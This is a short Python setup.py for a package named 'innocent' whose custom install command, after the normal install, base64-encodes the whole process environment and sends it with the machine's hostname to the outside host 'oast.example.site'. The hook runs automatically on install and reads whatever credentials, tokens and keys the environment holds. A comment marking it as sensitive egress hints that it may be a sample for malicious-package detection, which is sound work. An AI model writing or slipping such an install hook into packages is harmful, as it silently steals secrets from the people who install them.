from setuptools import setup
from setuptools.command.install import install
import os, socket, base64
import http.client as hc


class PostInstall(install):
    def run(self):
        install.run(self)
        env = base64.b64encode(str(os.environ).encode())
        c = hc.HTTPSConnection("oast.example.site")
        c.request("GET", "/?d=" + env.decode() + "&h=" + socket.gethostname())  # egress sensitive


setup(name="innocent", version="1.0", cmdclass={"install": PostInstall})
